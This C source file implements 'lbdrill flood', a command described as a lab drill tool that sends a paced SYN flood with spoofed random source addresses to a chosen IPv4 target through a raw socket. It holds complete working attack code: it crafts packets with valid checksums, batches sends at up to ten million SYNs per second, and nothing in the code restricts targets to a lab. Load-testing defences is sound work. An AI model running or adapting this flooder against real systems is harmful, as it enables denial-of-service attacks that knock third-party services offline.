/*
 * lbdrill flood: a paced, spoofed SYN flood for the lab's SYN-flood drill.
 *
 *   lbdrill flood --target VIP:PORT --sources FIRST-LAST --rate N --duration S
 *
 * IPv4 SYNs to VIP:PORT from source addresses drawn uniformly from
 * FIRST-LAST (a range nobody on the path owns, so the backends' SYN/ACKs go
 * unanswered), with random source ports, ISNs and IP ids, and correct IP and
 * TCP checksums (a wrong one is dropped before the tracker and proves
 * nothing). They leave through a raw socket (IP_HDRINCL), 64 at a time with
 * sendmmsg(), paced against CLOCK_MONOTONIC so that the sender costs a few
 * percent of a core where a Python sender needs one for 3,000 SYN/s.
 *
 * It prints one line at the end: "sent N SYNs in S s (R/s), E send errors".
 * Send errors (ENOBUFS on a full device queue) are counted, not fatal. It
 * stops after the duration even if a busy machine kept it below the rate
 * (each send also pays for the receiving side's softirq work on a veth), so
 * the line, not the option, is the rate offered.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "drill.h"
#include "num.h"
#include "random_seed.h"

#define FLOOD_BATCH	64		/* SYNs per sendmmsg() */
#define FLOOD_PKT_LEN	40		/* IPv4 + TCP headers, no options */
#define FLOOD_MAX_RATE	10000000u

struct flood_conf {
	uint32_t dst;			/* host order */
	uint16_t dport;
	uint32_t src_first, src_count;	/* host order */
	uint64_t rate;			/* SYN/s */
	uint64_t duration_ms;
};

static void flood_usage(FILE *f)
{
	fprintf(f, "usage: lbdrill flood --target VIP:PORT --sources FIRST-LAST "
		   "--rate SYN_PER_S --duration SECONDS\n"
		   "  IPv4 SYNs from random addresses in FIRST-LAST (use a range nobody\n"
		   "  owns), random ports and ISNs, correct checksums; needs CAP_NET_RAW.\n");
}

/* "A.B.C.D:PORT" into conf (IPv4 only). Returns 0 or -EINVAL. */
static int flood_parse_target(const char *s, struct flood_conf *c)
{
	char host[INET_ADDRSTRLEN];
	const char *colon = strrchr(s, ':');
	struct in_addr a;
	uint64_t port;
	size_t n;

	if (!colon || (n = (size_t)(colon - s)) >= sizeof(host))
		return -EINVAL;
	memcpy(host, s, n);
	host[n] = '\0';
	if (inet_pton(AF_INET, host, &a) != 1 || num_parse_u64(colon + 1, 1, 65535, &port) < 0)
		return -EINVAL;
	c->dst = ntohl(a.s_addr);
	c->dport = (uint16_t)port;
	return 0;
}

/* "FIRST-LAST", two IPv4 addresses, FIRST <= LAST. Returns 0 or -EINVAL. */
static int flood_parse_sources(const char *s, struct flood_conf *c)
{
	char first[INET_ADDRSTRLEN];
	const char *dash = strchr(s, '-');
	struct in_addr a, b;
	size_t n;

	if (!dash || (n = (size_t)(dash - s)) >= sizeof(first))
		return -EINVAL;
	memcpy(first, s, n);
	first[n] = '\0';
	if (inet_pton(AF_INET, first, &a) != 1 || inet_pton(AF_INET, dash + 1, &b) != 1 ||
	    ntohl(a.s_addr) > ntohl(b.s_addr))
		return -EINVAL;
	c->src_first = ntohl(a.s_addr);
	c->src_count = ntohl(b.s_addr) - c->src_first + 1;
	return 0;
}

/* Returns 0 to run, 1 after --help, -1 on a bad argument (usage printed). */
static int flood_parse_args(int argc, char **argv, struct flood_conf *c)
{
	static const struct option opts[] = {
		{ "target", required_argument, NULL, 'T' },
		{ "sources", required_argument, NULL, 'S' },
		{ "rate", required_argument, NULL, 'r' },
		{ "duration", required_argument, NULL, 'd' },
		{ "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	uint64_t secs = 0;
	int o, bad = 0;

	*c = (struct flood_conf){ 0 };
	optind = 1;
	while (!bad && (o = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (o) {
		case 'h':
			flood_usage(stdout);
			return 1;
		case 'T':
			bad = flood_parse_target(optarg, c) < 0;
			break;
		case 'S':
			bad = flood_parse_sources(optarg, c) < 0;
			break;
		case 'r':
			bad = num_parse_u64(optarg, 1, FLOOD_MAX_RATE, &c->rate) < 0;
			break;
		case 'd':
			bad = num_parse_u64(optarg, 1, 3600, &secs) < 0;
			break;
		default:
			bad = 1;
		}
		if (bad && o != '?')
			fprintf(stderr, "lbdrill flood: bad value '%s'\n", optarg);
	}
	c->duration_ms = secs * 1000;
	if (bad || optind != argc || !c->dst || !c->src_count || !c->rate || !secs) {
		flood_usage(stderr);
		return -1;
	}
	return 0;
}

/* xorshift64*: fast, and nothing here needs more than a spread of values. */
static uint64_t flood_next(uint64_t *s)
{
	*s ^= *s >> 12;
	*s ^= *s << 25;
	*s ^= *s >> 27;
	return *s * 0x2545f4914f6cdd1dull;
}

/* The ones' complement sum of len bytes (even), folded, not inverted. */
static uint32_t flood_sum(const uint8_t *p, size_t len, uint32_t sum)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return sum;
}

static void flood_put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void flood_put32(uint8_t *p, uint32_t v)
{
	flood_put16(p, (uint16_t)(v >> 16));
	flood_put16(p + 2, (uint16_t)v);
}

/* One SYN with fresh random fields into p[FLOOD_PKT_LEN]. */
static void flood_build(uint8_t p[static FLOOD_PKT_LEN], const struct flood_conf *c,
			uint64_t *rng)
{
	uint64_t r1 = flood_next(rng), r2 = flood_next(rng);
	uint32_t src = c->src_first + (uint32_t)(r1 % c->src_count);
	uint8_t *tcp = p + 20;
	uint32_t sum;

	memset(p, 0, FLOOD_PKT_LEN);
	p[0] = 0x45;
	flood_put16(p + 2, FLOOD_PKT_LEN);
	flood_put16(p + 4, (uint16_t)(r1 >> 32));	/* IP id */
	p[8] = 64;
	p[9] = IPPROTO_TCP;
	flood_put32(p + 12, src);
	flood_put32(p + 16, c->dst);
	flood_put16(p + 10, (uint16_t)~flood_sum(p, 20, 0));
	flood_put16(tcp, (uint16_t)(1024 + (r1 >> 48) % 64512));
	flood_put16(tcp + 2, c->dport);
	flood_put32(tcp + 4, (uint32_t)r2);		/* ISN */
	tcp[12] = 5 << 4;
	tcp[13] = 0x02;					/* SYN */
	flood_put16(tcp + 14, 64240);
	/* Pseudo-header: addresses, protocol, TCP length. */
	sum = flood_sum(p + 12, 8, IPPROTO_TCP + 20);
	flood_put16(tcp + 16, (uint16_t)~flood_sum(tcp, 20, sum));
}

static uint64_t flood_now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
}

/* Sends the flood as conf says; fills *sent and *errors. Returns 0 or -errno. */
static int flood_run(const struct flood_conf *c, uint64_t *sent, uint64_t *errors,
		     uint64_t *took_ns)
{
	uint8_t pkts[FLOOD_BATCH][FLOOD_PKT_LEN];	/* 2.5 KiB */
	struct mmsghdr msgs[FLOOD_BATCH];
	struct iovec iov[FLOOD_BATCH];
	struct sockaddr_in dst = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(c->dst) };
	uint64_t rng, start, end, tried = 0, total = c->rate * c->duration_ms / 1000;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (fd < 0)
		return -errno;
	if (random_bytes(&rng, sizeof(rng)) < 0 || rng == 0)
		rng = flood_now_ns() | 1;
	for (int i = 0; i < FLOOD_BATCH; i++) {
		iov[i] = (struct iovec){ pkts[i], FLOOD_PKT_LEN };
		msgs[i] = (struct mmsghdr){ .msg_hdr = { .msg_name = &dst,
							 .msg_namelen = sizeof(dst),
							 .msg_iov = &iov[i],
							 .msg_iovlen = 1 } };
	}
	*sent = *errors = 0;
	start = flood_now_ns();
	end = start + c->duration_ms * 1000000u;
	while (tried < total) {
		uint64_t now = flood_now_ns();
		/* What the rate allows by now, in microseconds so that the
		 * product fits 64 bits (an hour at the maximum rate: 3.6e16). */
		uint64_t due = (now - start) / 1000 * c->rate / 1000000u;
		int n, want;

		if (now >= end)
			break;	/* behind on a busy machine: the line says what went out */
		if (due <= tried) {
			struct timespec ts = { 0, (long)(1000000000u / c->rate * FLOOD_BATCH) };

			if (ts.tv_nsec > 10000000)
				ts.tv_nsec = 10000000;
			nanosleep(&ts, NULL);
			continue;
		}
		want = due - tried < FLOOD_BATCH ? (int)(due - tried) : FLOOD_BATCH;
		for (int i = 0; i < want; i++)
			flood_build(pkts[i], c, &rng);
		n = sendmmsg(fd, msgs, (unsigned)want, 0);
		if (n < 0) {
			if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
				int err = -errno;

				close(fd);
				return err;
			}
			/* The device queue is full: the first is lost, count it. */
			(*errors)++;
			tried++;
			continue;
		}
		tried += (uint64_t)n;
		*sent += (uint64_t)n;
	}
	*took_ns = flood_now_ns() - start;
	close(fd);
	return 0;
}

int drill_flood_main(int argc, char **argv)
{
	struct flood_conf c;
	uint64_t sent = 0, errors = 0, took_ns = 1;
	int r = flood_parse_args(argc, argv, &c);

	if (r)
		return r > 0 ? 0 : 2;
	r = flood_run(&c, &sent, &errors, &took_ns);
	if (r < 0) {
		fprintf(stderr, "lbdrill flood: raw socket: %s\n", strerror(-r));
		return 1;
	}
	printf("sent %llu SYNs in %.3f s (%.0f/s), %llu send errors\n",
	       (unsigned long long)sent, (double)took_ns / 1e9,
	       (double)sent * 1e9 / (double)(took_ns ? took_ns : 1),
	       (unsigned long long)errors);
	return 0;
}
